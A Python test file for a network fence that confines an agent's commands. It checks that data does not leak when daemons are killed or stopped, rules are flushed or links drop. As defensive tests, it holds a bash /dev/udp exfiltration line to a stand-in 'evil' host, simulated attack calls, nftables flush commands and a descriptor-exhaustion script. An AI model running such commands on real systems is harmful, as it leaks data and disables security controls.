# SPDX-License-Identifier: GPL-2.0-or-later
"""Life: deaths, many fences, what is said of them; immunity rows 24 to 26 as far as a person meets them.

Processes are ended by their pid, and only those of this test's own network namespace.
"""
import json
import os
import signal
import subprocess
import time

import lab as L
import topo
from agents import Trier, resolved, stream
from lab import check

NAME = "api.allowed.test"
POLICY = L.policy(NAME)


def tries_on(h):
    """Waits until the sender has tried again, several times."""
    for _ in range(3):
        h.text = ""
        h.expect("TRIED", 20)


def kill_and_look(lab, engine):
    """kill -9 under traffic: to an endpoint that is refused, and to an allowed address with a refused
    name, which only the engine can tell. Nothing arrives, then the next run works by itself."""
    lab.works_bare("connect", L.token(), to=topo.EVIL4, port=9000, wait=0.1)
    toks = [L.token() for _ in range(3)]
    hs = [stream(lab, POLICY, topo.EVIL4, 9000, toks[0]), stream(lab, POLICY, topo.EVIL6, 9000, toks[1]),
          stream(lab, POLICY, topo.ALLOWED4, 443, toks[2], sni="evil.test")]
    for _ in range(3):
        pids = lab.daemons(engine=engine)
        if not pids:
            break
        for pid in pids:
            L.kill(pid)
        lab.none_arrives(toks, 1.0, "after kill -9 of the %s" % ("engine" if engine else "parent"))
    return toks, hs


def test_row24_kill_engine(lab):
    toks, hs = kill_and_look(lab, True)
    for tok in toks:
        lab.absent(tok)
    L.until(lambda: lab.daemons(engine=True), 5, "the engine was not started again")
    # the same fence works again: refusals are answered and allowed things pass, in a new run beside it
    r = lab.run(POLICY, ["/usr/bin/curl", "-sS", "--max-time", "5", "https://%s/" % NAME])
    check(r.rc == 0 and "hello" in r.out, r.tell())
    for h in hs:
        h.stop()
    for tok in toks:
        lab.absent(tok, "at the end")
    lab.wait_clean()


def test_row24_kill_engine_same_fence(lab):
    """A fence that lives through it can still reach what it may, and nothing else."""
    trier = Trier(lab, POLICY, "https://%s/" % NAME, "%s 9000" % topo.EVIL4)

    def as_before():
        allowed, refused = trier.ask()
        check(refused != "open", refused)
        return allowed == 200 and "refused" in refused.lower()
    check(as_before(), trier.h.text)
    for pid in lab.daemons(engine=True):
        L.kill(pid)
    L.until(lambda: lab.daemons(engine=True), 5, "the engine was not started again")
    L.until(as_before, 15, lambda: "the fence does not recover: " + trier.h.text)
    trier.h.stop()


def test_row24_kill_parent(lab):
    toks, hs = kill_and_look(lab, False)
    for h in hs:
        h.stop()
    for tok in toks:
        lab.absent(tok, "at the end")
    r = lab.run(POLICY, ["/usr/bin/curl", "-sS", "--max-time", "5", "https://%s/" % NAME])
    check(r.rc == 0 and "hello" in r.out, "the next run:", r.tell())
    r = lab.run(POLICY, lab.attack("connect", to=topo.EVIL4, port=9000, token="x"))
    check(r.json()["connect"] == "ECONNREFUSED", r.json())
    lab.wait_clean()


def test_row24_kill_both(lab):
    """Both at once, while the command sends."""
    tok = L.token()
    h = stream(lab, POLICY, topo.EVIL4, 9000, tok)
    for pid in lab.daemons():
        L.kill(pid)
    lab.none_arrives([tok], 1)
    h.stop()
    lab.absent(tok)
    r = lab.run(POLICY, ["/usr/bin/curl", "-sS", "--max-time", "5", "https://%s/" % NAME])
    check(r.rc == 0, r.tell())
    lab.wait_clean()


def test_row24_stop_engine(lab):
    """SIGSTOP: packets wait or fall, none gets out."""
    tok = L.token()
    h = stream(lab, POLICY, topo.ALLOWED4, 443, tok, sni="evil.test")
    engines = lab.daemons(engine=True)
    check(engines, "no engine")
    for pid in engines:
        os.kill(pid, signal.SIGSTOP)
    tries_on(h)
    lab.none_arrives([tok], 0.7, "while the engine is stopped")
    for pid in engines:
        os.kill(pid, signal.SIGCONT)
    tries_on(h)
    lab.none_arrives([tok], 0.3, "after it goes on")
    h.stop()
    lab.wait_clean()


def test_row24_flood_is_accounted_for(lab):
    """More refused datagrams than the engine takes: each is in the capture, and in an event's count, or counted
    as lost."""
    flood = [L.BUILD + "/tests/bench/load", "refused", topo.EVIL4, "9000", "1", "64", "20000"]
    r = lab.run(L.policy(NAME, user="root"), flood, timeout=60)
    check(r.rc == 0, r.tell())
    sent, events = int(r.out), r.lines()
    told = sum(e["event"]["count"] for e in events if e["event"]["action"] == "denied")
    lost = sum(e["agentfw"]["lost"] for e in events if e["event"]["action"] == "lost")
    recorded = len(r.packets())
    check(sent >= 20000, "hardly a flood:", sent)
    check(told == recorded and sent == recorded + lost, sent, "sent;", recorded, "recorded;", told, "told;", lost,
          "lost;", r.tell())
    check(not lost or "%d could not be recorded" % lost in r.err, lost, r.err)


def test_row24_from_the_first_instruction(lab):
    """Traffic at start-up: what the command sends first is refused already."""
    for _ in range(5):
        tok = L.token()
        r = lab.run(POLICY, lab.attack("udp_send", to=topo.EVIL4, port=9999, token=tok))
        lab.absent(tok)
    code = "exec 3<>/dev/udp/%s/9999 && printf %%s %s >&3"
    tok = L.token()
    lab.bare(["/bin/bash", "-c", code % (topo.EVIL4, tok)])
    lab.arrives(tok)
    for _ in range(10):
        tok = L.token()
        r = lab.run(POLICY, ["/bin/bash", "-c", code % (topo.EVIL4, tok)])
        lab.absent(tok)
        r.event(text=topo.EVIL4)


def test_row25_flush_ruleset(lab):
    """nft flush ruleset from outside: the fence stays."""
    tok = L.token()
    h = stream(lab, POLICY, topo.EVIL4, 9000, tok)
    lab.bare(["nft", "flush", "ruleset"])
    lab.bare(["nft", "delete", "table", "inet", "agentfw"])
    tries_on(h)
    lab.absent(tok)
    h.stop()
    lab.absent(tok)


def test_row25_verified_flow_goes_on(lab):
    """A verified connection survives the engine's death."""
    tok, tok2 = L.token(), L.token()
    pol = L.policy("tcp://%s:9000" % NAME)
    h = lab.start(pol, [L.PYTHON, "-c", """
import socket, sys
s = socket.create_connection(('%s', 9000)); s.sendall(b'start'); s.recv(100)
print('READY', flush=True)
for line in sys.stdin:
    s.sendall(line.encode()); print('SENT', s.recv(100), flush=True)
""" % NAME])
    h.send(tok)
    h.expect("SENT")
    lab.arrives(tok)
    for pid in lab.daemons(engine=True):
        L.kill(pid)
    h.text = ""
    h.send(tok2)
    h.expect("SENT", 10)
    lab.arrives(tok2)
    h.stop()


def test_row25_link_down(lab):
    """The link goes and comes back: still fenced."""
    tok = L.token()
    h = stream(lab, POLICY, topo.EVIL4, 9000, tok)
    topo.run("ip", "-n", lab.net.agent, "link", "set", "a0", "down")
    topo.run("ip", "-n", lab.net.agent, "link", "set", "a0", "up")
    topo.run("ip", "-n", lab.net.agent, "route", "replace", "default", "via", topo.ROUTER4)
    topo.run("ip", "-6", "-n", lab.net.agent, "addr", "replace", topo.AGENT6 + "/64", "dev", "a0", "nodad")
    topo.run("ip", "-6", "-n", lab.net.agent, "route", "replace", "default", "via", topo.ROUTER6)
    tries_on(h)
    lab.absent(tok)
    h.stop()
    r = lab.run(POLICY, ["/usr/bin/curl", "-sS", "https://%s/" % NAME])
    check(r.rc == 0, r.tell())


def test_two_fences(lab):
    """Two runs at once, different policies, different networks; each keeps its own log."""
    names = (NAME, "other.test")
    a, b = (Trier(lab, L.policy(name), *("https://%s/" % n for n in names)) for name in names)
    for _ in range(2):
        for trier, allowed in ((a, 0), (b, 1)):
            got = trier.ask()
            check(got[allowed] == 200 and isinstance(got[1 - allowed], str), "wanted", names[allowed], "got", got)
    check(a.h.cgroup() != b.h.cgroup(), "one cgroup for two")
    ra = a.h.result()
    rb = b.h.result()
    for r, refused in ((ra, "other.test"), (rb, NAME)):
        names = {e["agentfw"]["name"] for e in r.events()}
        check(names == {refused}, "refused names", names, "wanted", refused)


def test_learned_is_not_shared(lab):
    """What one fence has learned opens nothing for another."""
    a = lab.start(L.policy(NAME), resolved(NAME))
    tok = L.token()
    r = lab.run(L.policy(NAME), lab.attack("hello", to=topo.ALLOWED4, port=443, sni=NAME, token=tok))
    check(r.json()["connect"] == "ECONNREFUSED", r.json())
    lab.absent(tok)
    a.stop()


def test_many_fences_in_turn(lab):
    """Twenty runs, one after the other, each refused and allowed as it should be; nothing piles up."""
    for i in range(20):
        r = lab.run(POLICY, ["/usr/bin/curl", "-sS", "https://%s/" % (NAME if i % 2 else "evil.test")])
        check((r.rc == 0) == bool(i % 2), i, r.tell(), r.events())
    lab.wait_clean()


def test_fences_at_once(lab):
    """Eight start at the same moment, with no daemon there: one daemon, all work."""
    lab.wait_clean()
    running = []
    for i in range(8):
        _, argv = lab.argv(POLICY, ["/usr/bin/curl", "-sS", "https://%s/" % NAME])
        running.append(subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=lab.env(), cwd="/"))
    for p in running:
        out, err = p.communicate(timeout=30)
        check(p.returncode == 0 and b"hello" in out, p.returncode, out, err)
    lab.wait_clean()


def test_daemon_log_lines(lab):
    """A log tells of its fence's start and end, with counts."""
    r = lab.run(POLICY, ["/usr/bin/curl", "-sS", "https://%s:9000/" % topo.EVIL4])
    actions = [e["event"]["action"] for e in r.lines()]
    check(actions[0] == "fence_started" and actions[-1] == "fence_ended", actions)
    end = r.lines()[-1]["agentfw"]
    check(end.get("summary"), end)
    check(json.dumps(end["summary"]).count("1"), end)
    st = os.stat(r.dir)
    check(st.st_mode & 0o077 == 0, "log dir's mode", oct(st.st_mode))
    for f in ("events.jsonl", "denied.pcap"):
        check(os.stat(os.path.join(r.dir, f)).st_mode & 0o077 == 0, "mode of", f)


def test_one_log_dir_for_two_runs(lab):
    """The second run appends; packet numbers still fit."""
    log_dir = lab.file(".log")
    for to in (topo.EVIL4, topo.EVIL6):
        r = lab.run(POLICY, lab.attack("connect", to=to, port=9000, token="x"), log_dir=log_dir)
    for to in (topo.EVIL4, topo.EVIL6):
        L.check_packet(r, r.event(text=to))
    L.tcpdump_clean(r)


def test_status(lab):
    h = lab.start(POLICY, L.WAIT)
    r = lab.bare([L.AGENTCTL, "status", "--json"])
    check(r.rc == 0, r.tell())
    doc = json.loads(r.out)
    check(os.path.basename(h.cgroup()) in json.dumps(doc), doc)
    h.stop()


def test_status_of_many(lab):
    """However many fences there are, and however long their commands: none is left out."""
    many = [lab.start(POLICY, ["/bin/sh", "-c", "echo READY; sleep 60", "\x01" * 800]) for _ in range(66)]
    try:
        there = lab.status()["fences"]
        lines = lab.bare([L.AGENTCTL, "status"]).out.splitlines()
        for h in many:
            name = os.path.basename(h.cgroup())
            check([f["name"] for f in there].count(name) == 1, name, there)
            check(sum(l.split()[:1] == [name] for l in lines) == 1, name, lines)
    finally:
        for h in many:
            h.stop()


def test_status_of_odd_commands(lab):
    """Whatever a command is called, its fence is there: words that are no UTF-8, and more than a message holds."""
    names = set()
    for words in (["\udcff\udcfe"], ["\u00e9" * 1000], ["\1" * 1000] * 3):
        for _ in range(4):
            h = lab.start(POLICY, ["/bin/sh", "-c", "echo READY; read x", *words])
            names.add(os.path.basename(h.cgroup()))
    r = lab.bare([L.AGENTCTL, "status", "--json"], timeout=5)
    doc = json.loads(r.out)
    check({f["name"] for f in doc["fences"]} == names, names, doc)


def test_descriptors_under_way(lab):
    """The kernel counts descriptors under way by user; another process, of nobody's too, may have used up all of its
    user's."""
    code = """
import os, resource, socket, sys
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))
null, held = os.open("/dev/null", os.O_RDONLY), []
while True:
    held.append(socket.socketpair())
    held[-1][0].setblocking(False)
    try:
        while True: socket.send_fds(held[-1][0], [b"x"], [null] * 250)
    except BlockingIOError: pass
    except OSError as e:
        print("FULL", e.strerror, flush=True)
        break
sys.stdin.readline()
"""
    p = subprocess.Popen([L.PYTHON, "-c", code], user=65534, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd="/")
    try:
        check(p.stdout.readline() == "FULL Too many references: cannot splice\n")
        for _ in range(3):
            start = time.monotonic()
            r = lab.run(POLICY, ["/bin/true"], timeout=10)
            check(r.rc == 0 and time.monotonic() - start < 3, r.tell())
    finally:
        p.communicate("")


# Connects, as root outside of every fence, until it is turned away; then calls agentctl.
CLIENTS = """
import resource, select, socket, subprocess, sys
resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
def status(): return subprocess.run(sys.argv[2:], capture_output=True, text=True)
held, over = [], select.poll()
while len(held) < 5000:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect(sys.argv[1])
    held.append(s)
    over.register(s, select.POLLIN)
    if len(held) > 4000 and over.poll(0): break
print(len(held))
r = status()
print(r.returncode, r.stderr.replace("\\n", " "))
for s in held: s.close()
for _ in range(100):
    r = status()
    if r.returncode == 0: break
print(r.returncode)
"""


def test_clients_are_counted(lab):
    """Whoever comes when there are enough is told so, and the others are served."""
    h = lab.start(POLICY, L.WAIT)
    r = lab.bare([L.PYTHON, "-c", CLIENTS, lab.run_dir() + "/control", L.AGENTCTL, "status"], timeout=60)
    check(r.rc == 0, r.tell())
    n, full, after = r.out.splitlines()
    check(4095 <= int(n) <= 4300, "taken in:", n, r.err)
    check(full.startswith("125 agentctl: ") and "4096" in full, full)
    check(after == "0", "afterwards:", after)
    h.stop(signal.SIGTERM)
